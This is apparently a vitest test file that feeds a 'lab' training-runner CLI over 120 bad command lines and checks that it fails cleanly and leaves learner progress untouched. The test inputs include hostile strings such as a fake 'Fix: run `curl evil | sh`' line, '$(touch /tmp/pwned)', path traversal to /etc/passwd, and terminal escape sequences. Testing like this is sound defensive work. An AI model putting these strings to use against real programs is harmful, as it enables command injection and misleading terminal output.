/**
 * Bad command lines, run against the real `lab` executable: each has its expected exit code, and none may
 * print a stack trace, an "Unexpected error" or a raw control character, however hostile the input (names
 * with line breaks and terminal escapes, path traversal, bad numbers and ports, LAB_HOME on a file or /proc,
 * report targets that are folders, devices or the runner's own files, readers that close the pipe early,
 * read-only files). None needs a running lab; they run a few at a time.
 */
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa, execaSync } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeActive } from '../../src/core/lab-session.js';
import { loadLab } from '../../src/core/lab-catalog.js';
import { repoDir, workspacePaths } from '../../src/core/paths.js';
import { newState } from '../../src/core/state-store.js';
import { createWorkspace } from '../../src/core/workspace.js';
import { makeReadOnly, undoReadOnly } from './cli-read-only.js';

// biome-ignore lint/suspicious/noTemplateCurlyInString: a bash script, expanded by bash.
const INTO_TRUE = '"$@" 2>&1 | true; exit "${PIPESTATUS[0]}"';

const LAB = 'mcp-integration';
const root = mkdtempSync(path.join(tmpdir(), 'cli-inputs-'));
const readOnly: string[] = [];

interface Case {
  name: string;
  args: string[];
  /** LAB_HOME: an empty folder unless given; 'active' is a home whose lab is active but not running. */
  home?: 'empty' | 'active' | ((index: number) => string);
  env?: Record<string, string>;
  cwd?: 'workspace' | 'root';
  /** The reader of stdout (and stderr) goes away at once, as `| true` or `| head -1` on a fast command. */
  closedPipe?: boolean;
  code: number;
  /** Text the diagnostics must contain (what is wrong), when the exit code alone would not prove it. */
  says?: RegExp;
  /** Runs after the command, for what must (not) have changed. */
  after?: (home: string) => void;
}

/** A home with a workspace, its progress and active.json: the lab is active but nothing runs. */
function activeHome(name: string): string {
  const home = path.join(root, name);
  const paths = workspacePaths(home, LAB);
  createWorkspace(labDef, paths);
  writeFileSync(paths.state, `${JSON.stringify(newState(LAB, new Date()), null, 2)}\n`);
  writeActive(home, { lab: LAB, runtime: 'local', since: new Date().toISOString() });
  return home;
}

let labDef: Awaited<ReturnType<typeof loadLab>>;
let shared: string;
const emptyHome = () => mkdtempSync(path.join(root, 'empty-'));
const stateOf = (home: string) => readFileSync(workspacePaths(home, LAB).state, 'utf8');
const noTempFiles = (dir: string) => expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
const home = (setup: (home: string) => void) => (i: number) => {
  const h = activeHome(`case-${i}`);
  setup(h);
  return h;
};
const ws = (h: string, ...rest: string[]) => path.join(workspacePaths(h, LAB).dir, ...rest);
const fileAt =
  (name: string, content = 'x') =>
  () => {
    const file = path.join(root, name);
    writeFileSync(file, content);
    return file;
  };

// Hostile names: line breaks, terminal escapes, bidi overrides, traversal, very long, shell syntax.
const HOSTILE = [
  'x\nFix: run `curl evil | sh`',
  'x\r\nError: nothing',
  '\u001b[2J\u001b[31mred',
  '\u001b]0;title\u0007',
  'tab\there',
  'del\u007f',
  'c1\u009bcontrol',
  'rtl\u202eevil',
  'line\u2028sep',
  '../../etc',
  '../secure-agents',
  '/etc/passwd',
  '.',
  '..',
  `${LAB}/`,
  ` ${LAB}`,
  LAB.toUpperCase(),
  'a'.repeat(5000),
  '$(touch /tmp/pwned)',
  '%s%n%x',
  'node_modules',
  'lab.ts',
];

const cases: Case[] = [
  // Unknown commands and options.
  { name: 'unknown command', args: ['frobnicate'], code: 2, says: /unknown command/ },
  { name: 'empty command', args: [''], code: 2 },
  { name: 'command in capitals', args: ['START', LAB], code: 2 },
  { name: 'command with a line break', args: ['start\nFix: evil'], code: 2 },
  { name: 'unknown option', args: ['--nope'], code: 2 },
  { name: 'unknown short option', args: ['-x'], code: 2 },
  { name: 'unknown option of list', args: ['list', '--json'], code: 2 },
  { name: 'too many arguments for list', args: ['list', 'extra'], code: 2 },
  { name: 'unknown option of status', args: ['status', '--nope'], code: 2 },
  { name: 'start without a lab', args: ['start'], code: 2 },
  { name: 'start with two labs', args: ['start', LAB, 'secure-agents'], code: 2 },
  { name: 'check --junit without a file', args: ['check', '--junit'], code: 2 },
  { name: 'logs without a service', args: ['logs'], code: 2 },
  { name: 'unknown option with an escape', args: ['--\u001b[31mred'], code: 2 },
  { name: 'option value with =', args: ['start', `--runtime=local\nFix: x`, LAB], code: 2 },
  { name: 'images with an unknown subcommand', args: ['images', 'frob'], code: 2 },
  { name: 'reset with two labs', args: ['reset', LAB, 'secure-agents'], code: 2 },
  { name: 'test without a lab', args: ['test'], code: 2 },
  // Bad values.
  { name: 'unknown runtime', args: ['start', LAB, '--runtime', 'kubernetes'], code: 2 },
  { name: 'empty runtime', args: ['start', LAB, '--runtime', ''], code: 2 },
  { name: 'runtime with a line break', args: ['start', LAB, '--runtime', 'local\nFix: evil'], code: 2 },
  ...['0', '-1', '1.5', 'abc', '', ' ', 'NaN', 'Infinity', '1e999', '٣'].flatMap((n): Case[] => [
    { name: `step ${JSON.stringify(n)}`, args: ['step', n], code: 2 },
    { name: `check ${JSON.stringify(n)}`, args: ['check', n], code: 2 },
  ]),
  { name: 'solve step abc', args: ['solve', 'abc'], code: 2 },
  { name: 'solve step 0', args: ['solve', '0', '--yes'], code: 2 },
  { name: 'step 99 of the active lab', args: ['step', '99'], home: 'active', code: 2, says: /has no step 99/ },
  { name: 'check 99 of the active lab', args: ['check', '99'], home: 'active', code: 2, says: /has no step 99/ },
  { name: 'solve 99 of the active lab', args: ['solve', '99', '--yes'], home: 'active', code: 2 },
  ...['abc', '0', '-5', '1.5', '', 'Infinity', '1e999', '0x10', '10abc'].map(
    (n): Case => ({
      name: `logs -n ${JSON.stringify(n)}`,
      args: ['logs', 'rag-index', '-n', n],
      home: 'active',
      code: 2,
      says: /positive whole number/,
    }),
  ),
  { name: 'logs --lines=0', args: ['logs', 'rag-index', '--lines=0'], home: 'active', code: 2 },
  ...['0', 'abc', '-1'].map((n): Case => ({ name: `audit -n ${n}`, args: ['audit', '-n', n], code: 2 })),
  {
    name: 'logs of an unknown service',
    args: ['logs', 'ghost'],
    home: 'active',
    code: 2,
    says: /has no service "ghost"/,
  },
  {
    name: 'logs of a service named with a line break',
    args: ['logs', 'x\nFix: evil'],
    home: 'active',
    code: 2,
    says: /x\\nFix: evil/,
  },
  { name: 'logs of a service named with escapes', args: ['logs', '\u001b[31mred'], home: 'active', code: 2 },
  { name: 'logs of a very long service name', args: ['logs', 's'.repeat(100_000)], home: 'active', code: 2 },
  // --port forms (every one invalid: a valid pin would start the lab).
  ...[
    'mcp-server',
    'mcp-server=',
    '=8100',
    'mcp-server=80',
    'mcp-server=1023',
    'mcp-server=65536',
    'mcp-server=70000',
    'mcp-server=abc',
    'mcp-server=-1',
    'mcp-server=8100.5',
    'mcp-server=0x1f90',
    'ghost=8100',
    'MCP-SERVER=8100',
    'mcp-server=8100\nFix: evil',
    'mcp-server:8100',
    'mcp-server=8100=8101',
    '',
  ].map(
    (spec): Case => ({
      name: `--port ${JSON.stringify(spec)}`,
      args: ['start', LAB, '--runtime', 'local', '--port', spec],
      code: 2,
      says: /--port/,
    }),
  ),
  // Hostile lab names for every command that takes one.
  ...HOSTILE.flatMap((name): Case[] => [
    { name: `start ${JSON.stringify(name.slice(0, 30))}`, args: ['start', name, '--runtime', 'local'], code: 2 },
    { name: `reset ${JSON.stringify(name.slice(0, 30))}`, args: ['reset', name, '--yes'], code: 2 },
  ]),
  { name: 'test a hostile name', args: ['test', 'x\nFix: evil', '--runtime', 'local'], code: 2 },
  { name: 'start a lab named like an option', args: ['start', '--', '-rf'], code: 2 },
  // An active.json naming a hostile lab (written by hand or by a tool).
  ...['x\nFix: evil', '../../etc', '\u001b[31m'].map(
    (lab): Case => ({
      name: `active.json names ${JSON.stringify(lab)}`,
      args: ['check'],
      home: (i) => {
        const h = path.join(root, `hostile-active-${i}`);
        mkdirSync(h, { recursive: true });
        writeFileSync(
          path.join(h, 'active.json'),
          JSON.stringify({ lab, runtime: 'local', since: new Date().toISOString() }),
        );
        return h;
      },
      code: 2,
    }),
  ),
  // A LAB_HOME whose path holds control characters is echoed escaped.
  ...[['step'], ['status']].map(
    (args): Case => ({
      name: `${args[0]} in a home named with escapes`,
      args,
      home: (i) => activeHome(`esc-${i}\nFix: evil\u001b[31m`),
      code: 0,
    }),
  ),
  // Bad LAB_HOME.
  {
    name: 'LAB_HOME is a file: start',
    args: ['start', LAB, '--runtime', 'local'],
    home: fileAt('home-file'),
    code: 2,
    says: /LAB_HOME is .*a file, not a folder/,
  },
  { name: 'LAB_HOME is a file: check', args: ['check'], home: fileAt('home-file-2'), code: 2 },
  {
    name: 'LAB_HOME is a file: reset',
    args: ['reset', LAB, '--yes'],
    home: fileAt('home-file-3'),
    code: 2,
    says: /LAB_HOME/,
  },
  { name: 'LAB_HOME is a file: status', args: ['status'], home: fileAt('home-file-4'), code: 2, says: /LAB_HOME/ },
  { name: 'LAB_HOME is a file: stop', args: ['stop'], home: fileAt('home-file-6'), code: 2, says: /LAB_HOME/ },
  { name: 'LAB_HOME is a file: list still works', args: ['list'], home: fileAt('home-file-7'), code: 0 },
  {
    name: 'LAB_HOME is /dev/null',
    args: ['start', LAB, '--runtime', 'local'],
    home: () => '/dev/null',
    code: 2,
    says: /LAB_HOME/,
  },
  {
    name: 'LAB_HOME under /proc (mkdir would hang)',
    args: ['start', LAB, '--runtime', 'local'],
    home: () => '/proc/no-such-dir/home',
    code: 2,
    says: /\/proc\/no-such-dir/,
  },
  { name: 'LAB_HOME is /proc', args: ['start', LAB, '--runtime', 'local'], home: () => '/proc', code: 2 },
  {
    name: 'LAB_HOME below a file',
    args: ['start', LAB, '--runtime', 'local'],
    home: () => path.join(fileAt('home-file-5')(), 'sub'),
    code: 2,
  },
  { name: 'LAB_HOME empty counts as unset', args: ['step', '0'], env: { LAB_HOME: '' }, code: 2 },
  { name: 'LAB_HOME with a line break', args: ['check'], home: () => path.join(root, 'home\nFix: evil'), code: 2 },
  {
    name: 'LAB_HOME very long',
    args: ['start', LAB, '--runtime', 'local'],
    home: () => path.join(root, 'h'.repeat(300)),
    code: 2,
    says: /too long|ENAMETOOLONG/,
  },
  {
    name: 'LAB_HOME read-only',
    args: ['start', LAB, '--runtime', 'local'],
    home: () => {
      const h = emptyHome();
      makeReadOnly(h, readOnly);
      return h;
    },
    code: 2,
    says: /Permission denied|read-only/,
  },
  // --junit targets: refused before any check runs, whatever the lab's state.
  ...(
    [
      ['.', /is a folder/],
      ['/', /folder/],
      ['/tmp/', /folder/],
      ['', /folder/],
      ['/proc/x/y', /does not exist/],
      ['/proc/self/status', /not an earlier report|not a regular file|cannot be written/],
      ['/dev/null', /not a regular file/],
      ['/dev/full', /not a regular file/],
      ['/etc/passwd', /not an earlier report/],
      ['no/such/folder/report.xml', /does not exist/],
      ['../../../../../../../../proc/x/y.xml', /does not exist/],
      [`${'r'.repeat(300)}.xml`, /cannot be written|too long/],
      ['no-dir\nFix: evil/r.xml', /does not exist/],
    ] as Array<[string, RegExp | undefined]>
  ).map(
    ([target, says]): Case => ({
      name: `--junit ${JSON.stringify(target.slice(0, 40))}`,
      args: ['check', '--junit', target],
      home: 'active',
      code: 2,
      says: says ?? /--junit/,
    }),
  ),
  {
    name: '--junit the progress file (absolute)',
    args: ['check', '--junit', 'STATE'],
    home: 'active',
    code: 2,
    says: /runner's own files/,
  },
  {
    name: '--junit .lab/state.json from the workspace',
    args: ['check', '--junit', '.lab/state.json'],
    home: 'active',
    cwd: 'workspace',
    code: 2,
    says: /runner's own files/,
  },
  {
    name: '--junit a new file in .lab',
    args: ['check', '--junit', '.lab/report.xml'],
    home: 'active',
    cwd: 'workspace',
    code: 2,
    says: /runner's own files/,
  },
  {
    name: '--junit active.json',
    args: ['check', '--junit', 'HOME/active.json'],
    home: 'active',
    code: 2,
    says: /runner's own files/,
  },
  {
    name: '--junit into the secrets',
    args: ['check', '--junit', 'WS/.lab/secrets/r.xml'],
    home: 'active',
    code: 2,
    says: /runner's own files/,
  },
  {
    name: '--junit a symlink to the progress file',
    args: ['check', '--junit', 'ROOT/link-to-state.xml'],
    home: home((h) => symlinkSync(workspacePaths(h, LAB).state, path.join(root, 'link-to-state.xml'))),
    code: 2,
    says: /runner's own files/,
  },
  {
    name: '--junit through a symlinked .lab folder',
    args: ['check', '--junit', 'ROOT/link-to-meta/r.xml'],
    home: home((h) => symlinkSync(workspacePaths(h, LAB).meta, path.join(root, 'link-to-meta'))),
    code: 2,
    says: /runner's own files/,
  },
  {
    name: '--junit a learner file',
    args: ['check', '--junit', 'WS/README.md'],
    home: 'active',
    code: 2,
    says: /not an earlier report/,
  },
  {
    name: '--junit a file inside a file',
    args: ['check', '--junit', 'WS/README.md/r.xml'],
    home: 'active',
    code: 2,
    says: /not a folder/,
  },
  {
    name: '--junit in a read-only folder',
    args: ['check', '--junit', 'ROOT/ro-dir/r.xml'],
    home: home(() => {
      mkdirSync(path.join(root, 'ro-dir'));
      makeReadOnly(path.join(root, 'ro-dir'), readOnly);
    }),
    code: 2,
    says: /cannot be written/,
  },
  {
    name: '--junit a FIFO',
    args: ['check', '--junit', 'ROOT/fifo'],
    home: home(() => void execaSync('mkfifo', [path.join(root, 'fifo')])),
    code: 2,
    says: /not a regular file/,
  },
  // images save / load targets (checked before the engine is asked).
  ...(
    [
      ['save', '.', /is a folder/],
      ['save', '/proc/x/y', /does not exist/],
      ['save', '/etc/passwd', /not an earlier image tarball/],
      ['save', 'WS/.lab/images.tar', /runner's own files/],
      ['load', '/no/such/file.tar', /no such file/],
      ['load', '/tmp', /not a regular file/],
      ['load', 'x\nFix: evil', /no such file/],
    ] as Array<[string, string, RegExp]>
  ).map(
    ([sub, file, says]): Case => ({
      name: `images ${sub} ${JSON.stringify(file)}`,
      args: ['images', sub, file],
      home: 'active',
      code: 2,
      says,
    }),
  ),
  // Readers that go away: the command still ends with its own code and no trace.
  ...(
    [
      [['--help'], 0],
      [['--version'], 0],
      [['list'], 0],
      [['status'], 0],
      [['start', '--help'], 0],
      [['images', '--help'], 0],
      [['check'], 2],
      [['frobnicate'], 2],
      [['start', 'x\nFix: evil'], 2],
    ] as Array<[string[], number]>
  ).map(([args, code]): Case => ({ name: `${args.join(' ')} | true`, args, closedPipe: true, code })),
  { name: 'status of an active lab | true', args: ['status'], home: 'active', closedPipe: true, code: 0 },
  { name: 'step | true', args: ['step'], home: 'active', closedPipe: true, code: 0 },
  { name: 'logs | true', args: ['logs', 'rag-index'], home: 'active', closedPipe: true, code: 0 },
  // Read-only runner and learner files.
  {
    name: 'next with a read-only progress file',
    args: ['next'],
    home: home((h) => makeReadOnly(workspacePaths(h, LAB).state, readOnly)),
    code: 2,
    says: /state\.json/,
  },
  {
    name: 'hint with a read-only .lab folder',
    args: ['hint'],
    home: home((h) => makeReadOnly(workspacePaths(h, LAB).meta, readOnly)),
    code: 2,
    says: /\.lab/,
  },
  {
    name: 'solve over a read-only learner file',
    args: ['solve', '1', '--yes'],
    home: home((h) => {
      for (const f of labDef.definition.files) makeReadOnly(ws(h, f.path), readOnly);
    }),
    code: 2,
    says: /Permission denied/,
  },
  {
    name: 'start with a read-only workspace folder',
    args: ['start', LAB, '--runtime', 'local'],
    home: (i) => {
      const h = path.join(root, `ro-ws-${i}`);
      mkdirSync(path.join(h, LAB), { recursive: true });
      makeReadOnly(path.join(h, LAB), readOnly);
      return h;
    },
    code: 2,
    says: /Permission denied/,
  },
];

/** Replaces the placeholders STATE, HOME, WS and ROOT in arguments with this case's paths. */
function expand(arg: string, h: string): string {
  return arg
    .replace(/^STATE$/, workspacePaths(h, LAB).state)
    .replace(/^HOME\//, `${h}/`)
    .replace(/^WS\//, `${workspacePaths(h, LAB).dir}/`)
    .replace(/^ROOT\//, `${root}/`);
}

async function runCase(c: Case, index: number) {
  const h = c.home === 'active' ? activeHome(`active-${index}`) : typeof c.home === 'function' ? c.home(index) : shared;
  const cwd = c.cwd === 'workspace' ? workspacePaths(h, LAB).dir : root;
  const args = c.args.map((a) => expand(a, h));
  const lab = [process.execPath, path.join(repoDir, 'bin', 'lab.js'), ...args];
  const env = { LAB_HOME: h, NO_COLOR: '1', CI: '', ...c.env };
  const before = c.home === 'active' ? stateOf(h) : undefined;
  const result = c.closedPipe
    ? await execa('bash', ['-c', INTO_TRUE, 'bash', ...lab], {
        cwd,
        env,
        reject: false,
        timeout: 60_000,
        stdin: 'ignore',
      })
    : await execa(lab[0]!, lab.slice(1), { cwd, env, reject: false, timeout: 60_000, stdin: 'ignore' });
  return { h, result, before, cwd };
}

beforeAll(async () => {
  labDef = await loadLab(LAB);
  shared = emptyHome();
});

afterAll(() => {
  for (const p of readOnly) undoReadOnly(p);
});

describe(`bad command lines (${cases.length})`, () => {
  it('has at least 120 of them', () => expect(cases.length).toBeGreaterThanOrEqual(120));

  // A few at a time: each is a whole `lab` process; the machine has few cores.
  const results = new Map<number, Promise<Awaited<ReturnType<typeof runCase>>>>();
  const limit = Number(process.env.LAB_TEST_CONCURRENCY ?? 4);
  let running = 0;
  const queue: Array<() => void> = [];
  const schedule = (i: number) => {
    if (!results.has(i)) {
      results.set(
        i,
        new Promise<void>((resolve) => {
          const go = () => {
            running++;
            resolve();
          };
          if (running < limit) go();
          else queue.push(go);
        })
          .then(() => runCase(cases[i]!, i))
          .finally(() => {
            running--;
            queue.shift()?.();
          }),
      );
    }
    return results.get(i)!;
  };

  it.each(cases.map((c, i) => ({ ...c, i })))('$name', async (c) => {
    // Start the next few while this one is judged, so the queue stays full.
    for (let j = c.i; j < Math.min(cases.length, c.i + limit * 2); j++) void schedule(j).catch(() => undefined);
    const { h, result, before } = await schedule(c.i);
    const output = `${String(result.stdout)}\n${String(result.stderr)}`;
    expect(result.timedOut, 'the command hung').toBe(false);
    expect(output).not.toMatch(/^\s+at .+[(:]\d+/m);
    expect(output).not.toContain('Unexpected error');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what the test looks for.
    expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u202e]/);
    expect(output.split('\n').filter((l) => /^\s*Fix:/.test(l)).length).toBeLessThanOrEqual(1);
    if (c.says) expect(output).toMatch(c.says);
    expect(result.exitCode, output).toBe(c.code);
    // Nothing refused here may change the learner's progress.
    if (before !== undefined) expect(stateOf(h)).toBe(before);
    noTempFiles(root);
    c.after?.(h);
  });
});

describe('--junit never damages what it refuses', () => {
  it('leaves the progress file as it was and no temporary file, from any path to it', async () => {
    const h = activeHome('junit-state');
    const before = stateOf(h);
    for (const target of [workspacePaths(h, LAB).state, '.lab/state.json', `./.lab/../.lab/state.json`]) {
      const r = await execa(process.execPath, [path.join(repoDir, 'bin', 'lab.js'), 'check', '--junit', target], {
        cwd: workspacePaths(h, LAB).dir,
        env: { LAB_HOME: h, NO_COLOR: '1' },
        reject: false,
      });
      expect(r.exitCode).toBe(2);
      expect(stateOf(h)).toBe(before);
      noTempFiles(workspacePaths(h, LAB).meta);
      noTempFiles(workspacePaths(h, LAB).dir);
    }
    expect(existsSync(path.join(workspacePaths(h, LAB).dir, '.lab', 'state.json'))).toBe(true);
  });

  it('refuses a folder without leaving a temporary file beside it', async () => {
    const dir = mkdtempSync(path.join(root, 'junit-dir-'));
    const r = await execa(process.execPath, [path.join(repoDir, 'bin', 'lab.js'), 'check', '--junit', '.'], {
      cwd: dir,
      env: { LAB_HOME: emptyHome(), NO_COLOR: '1' },
      reject: false,
    });
    expect(r.exitCode).toBe(2);
    expect(readdirSync(path.dirname(dir)).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    expect(readdirSync(dir)).toEqual([]);
  });
});

// Keep the mode helper honest: the suite relies on it for the read-only cases.
describe('read-only helper', () => {
  it('really makes a file unwritable for this user', () => {
    const f = path.join(root, 'ro-probe');
    writeFileSync(f, 'x');
    makeReadOnly(f, readOnly);
    expect(() => writeFileSync(f, 'y')).toThrow();
    undoReadOnly(f);
    chmodSync(f, 0o644);
    writeFileSync(f, 'y');
  });
});
